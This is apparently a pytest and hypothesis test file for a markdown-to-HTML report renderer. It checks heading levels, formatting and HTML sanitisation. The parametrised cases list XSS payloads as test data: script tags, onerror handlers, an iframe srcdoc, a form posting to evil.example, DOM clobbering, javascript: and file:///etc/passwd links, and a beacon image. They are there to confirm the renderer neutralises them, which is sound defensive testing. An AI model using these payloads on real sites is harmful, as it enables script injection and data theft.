from __future__ import annotations

import base64
import re
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from poc_eval.report.narrative import Headings, addresses_of_pictures, rendered
from poc_eval.report.pictures import png

DOT = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ALLOWED = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "s", "code", "pre", "blockquote"),
    *("ul", "ol", "li", "a", "img", "span", "table", "thead", "tbody", "tr", "th", "td"),
}


def show(markdown, pictures=None, lang="zh"):
    return str(rendered(markdown, pictures=pictures or {}, headings=Headings(above=2), lang=lang))


def elements(html):
    found = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    reader = Reader()
    reader.feed(html)
    reader.close()
    return found


def test_what_was_written_is_set_as_it_was_meant():
    html = show("**重点**、~~删去~~、`代码`\n\n3. 三\n4. 四\n\n> 引文\n\n| 甲 | 乙 |\n|:-:|--:|\n| 1 | 2 |")
    for part in (
        "<strong>重点</strong>",
        "<s>删去</s>",
        "<code>代码</code>",
        '<ol start="3">',
        "<blockquote>",
        '<td class="pe-middle">1</td>',
        '<td class="pe-number">2</td>',
    ):
        assert part in html
    assert "style" not in html


def test_headings_go_below_the_reports_own_and_skip_no_level():
    headings = Headings(above=2)
    assert [headings.level(written) for written in (2, 4, 4, 3, 2, 1, 6, 6, 2)] == [3, 4, 4, 4, 3, 3, 4, 4, 4]
    deep = Headings(above=2)
    assert [deep.level(written) for written in (1, 2, 3, 4, 5, 6)] == [3, 4, 5, 6, 6, 6]


@given(st.lists(st.integers(min_value=1, max_value=6)))
def test_no_sequence_of_headings_skips_a_level(written):
    headings = Headings(above=2)
    before = 2
    for level in map(headings.level, written):
        assert 3 <= level <= before + 1
        before = level


@pytest.mark.parametrize(
    "typed",
    [
        "<script>window.__pwned=1</script>",
        "<img src=x onerror=window.__pwned=1>",
        '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
        '<form action="https://evil.example"><input name=a><button>确认</button></form>',
        "<style>td{visibility:hidden}</style>",
        '<a id="poc-eval-data"></a><img name="poc-eval-data">',
        '</script><!--SIG:AAAA--><script type="application/json" id="poc-eval-data">{}</script>',
        "<b onmouseover=window.__pwned=1>分数</b>",
    ],
)
def test_html_is_shown_as_it_was_typed(typed):
    html = show(typed)
    assert escape(typed, quote=False) in html.replace("&quot;", '"')
    assert {name for name, _attributes in elements(html)} <= {"p"}


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "a.pdf",
    ],
)
def test_a_link_to_anywhere_but_the_web_keeps_its_words_alone(address):
    assert show(f"见[附件]({address})。") == "<p>见附件。</p>\n"
    assert "<a" not in show(f"<{address}>")


def test_a_link_to_the_web_gives_nothing_away():
    assert elements(show('[网页](https://a.cn/?a=1&b=2 "x")')) == [
        ("p", {}),
        ("a", {"href": "https://a.cn/?a=1&b=2", "rel": "noopener noreferrer nofollow"}),
    ]


def test_a_picture_from_elsewhere_is_replaced_by_its_alternative_text():
    html = show("![x](https://evil.example/beacon.png?u=zhang) ![](b.png)", lang="en")
    assert "[picture not included: x]" in html
    assert "[picture not included]" in html
    assert "evil" not in html
    assert "<img" not in html


def test_a_picture_that_was_checked_is_shown_with_its_own_size_and_words():
    picture = png(DOT)
    html = show("![台架*试验*](attachment:a.png)![](attachment:a.png)", {"attachment:a.png": picture})
    images = [attributes for name, attributes in elements(html) if name == "img"]
    assert images == [
        {"src": picture.uri, "alt": "台架试验", "width": "1", "height": "1"},
        {"src": picture.uri, "alt": "图（无文字说明）", "width": "1", "height": "1"},
    ]


def test_pictures_are_found_wherever_they_stand():
    assert addresses_of_pictures("- ![a](a.png)\n\n[![b](b%20c.png)](https://a.cn)\n\n`![](no.png)`") == [
        "a.png",
        "b%20c.png",
    ]


@given(st.text(alphabet=st.characters(codec=None)))
def test_nothing_that_can_be_typed_makes_more_than_the_allowed_elements(typed):
    for name, attributes in elements(show(typed)):
        assert name in ALLOWED
        assert set(attributes) <= {"href", "rel", "src", "alt", "width", "height", "start", "class"}
        assert not attributes.get("href") or re.match("https?://", attributes["href"], re.IGNORECASE)
        assert not attributes.get("src")


@given(
    st.lists(
        st.sampled_from(
            [
                "[",
                "]",
                "(",
                ")",
                "<",
                ">",
                '"',
                "'",
                "!",
                "javascript:",
                "data:",
                "https://a.cn",
                "onerror=",
                "`",
                "*",
                "\n",
                "&#106;",
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_no_mixture_of_signs_gets_an_address_through(typed):
    for _name, attributes in elements(show(typed)):
        assert not attributes.get("href") or re.match("https?://", attributes["href"], re.IGNORECASE)
        assert not {key for key in attributes if key.startswith("on")}
